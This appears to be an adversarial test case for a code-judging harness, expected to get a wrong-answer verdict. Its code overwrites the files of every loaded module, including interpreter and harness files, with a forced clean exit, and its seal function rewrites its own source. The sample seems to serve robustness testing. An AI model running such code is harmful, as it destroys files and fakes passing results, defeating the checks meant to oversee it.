# attack: rewrites its own file and every file of the harness and the interpreter that it finds
# packages: vault vault-examined
# verdict: WA
import os
import sys

for module in list(sys.modules.values()):
    path = getattr(module, "__file__", None)
    for place in (path, f"{path}c"):
        try:
            os.chmod(place, 0o777)
            with open(place, "w") as file:
                file.write("raise SystemExit(0)")
        except (OSError, TypeError):
            pass


def seal(token, numbers):
    with open(__file__, "w") as file:
        file.write("def seal(token, numbers): return 'cnry'")
    return "cnry"
